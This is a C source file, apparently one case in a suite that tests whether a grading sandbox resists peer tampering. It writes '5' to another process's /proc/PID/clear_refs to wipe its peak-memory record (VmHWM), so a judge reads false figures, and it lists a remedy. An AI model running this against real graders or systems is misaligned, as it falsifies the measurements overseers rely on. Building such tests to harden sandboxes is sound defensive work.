// SPDX-License-Identifier: MIT
/*
 * Goal:  accounts that a judge will read are false.
 * Means: "5" written to /proc/PID/clear_refs makes the kernel forget the most memory that the
 *        process ever had, VmHWM, from which graders take a program's peak. It works on anybody's
 *        process of the same user; here on somebody else's, where it can be told from one's own.
 */
#include "attacks/peer-tampering/target.h"

#include <fcntl.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char path[48];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/clear_refs", target(b));
	attempting(b);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return denied(path);
	return write(fd, "5", 1) == 1 ? CLAIM_DONE : denied("write");
}

const struct attack attack = {
	.effect = "the record of how much memory another process has used is wiped",
	.means = "writing to /proc/PID/clear_refs",
	.oracle = "settings",
	.attack_id = "T1565.001, CWE-668",
	.remedy = "a worker that is not dumpable: root owns its files then; Landlock without /proc",
	.refs = (const char *const[]){ "proc_pid_clear_refs(5)", NULL },
	.run = run,
};
